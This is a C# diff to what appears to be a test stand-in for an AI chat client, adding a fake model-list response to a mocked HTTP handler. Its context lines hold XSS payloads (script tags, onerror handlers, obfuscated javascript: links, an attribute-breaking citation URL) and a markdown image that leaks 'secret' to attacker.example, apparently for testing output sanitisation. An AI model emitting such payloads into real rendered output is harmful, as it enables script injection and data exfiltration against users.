@@ -67,11 +67,21 @@ internal static class StandIn
         .Say("<script>window.pwned=1</script>\n\n<img src=x onerror=\"window.pwned=1\">\n\n[click](javascript:window.pwned=1) [entity](java&#115;cript:window.pwned=1) [data](data:text/html,x)\n\n![pixel](https://attacker.example/p.png?words=secret)\n\n<javascript:window.pwned=1>\n\n[a good link](https://example.com/)")
         .Cite("https://example.com/\"onmouseover=\"window.pwned=1", "<b>title</b>");
 
-    /// <summary>Answers what a stopped generation cost, as the service does a moment later.</summary>
+    /// <summary>Answers what the platform is asked besides: its models, and what a stopped generation cost.</summary>
     private sealed class Ledger(HttpMessageHandler inner) : DelegatingHandler(inner)
     {
+        private static readonly string Models = $"{{\"data\":[{string.Join(',', Account.Favourites.Select(Entry))}]}}";
+
+        private static string Entry(Model model) => $$"""
+            {"id":"{{model.Id}}","name":"{{model.Name}}","architecture":{"output_modalities":["text"]},"supported_parameters":["reasoning","tools"],
+             "reasoning":{"mandatory":{{(model.Id.StartsWith("deepseek", StringComparison.Ordinal) ? "true" : "false")}},"supported_efforts":["xhigh","high","medium","low","minimal","none"] } }
+            """;
+
         protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken) =>
             request.Method != HttpMethod.Get ? base.SendAsync(request, cancellationToken)
-            : Task.FromResult(new HttpResponseMessage(HttpStatusCode.OK) { Content = new StringContent("""{"data":{"total_cost":0.000217}}""", Encoding.UTF8, "application/json") });
+            : Task.FromResult(new HttpResponseMessage(HttpStatusCode.OK)
+            {
+                Content = new StringContent(request.RequestUri!.AbsolutePath.EndsWith("/models", StringComparison.Ordinal) ? Models : """{"data":{"id":"gen-1","total_cost":0.000217}}""", Encoding.UTF8, "application/json"),
+            });
     }
 }
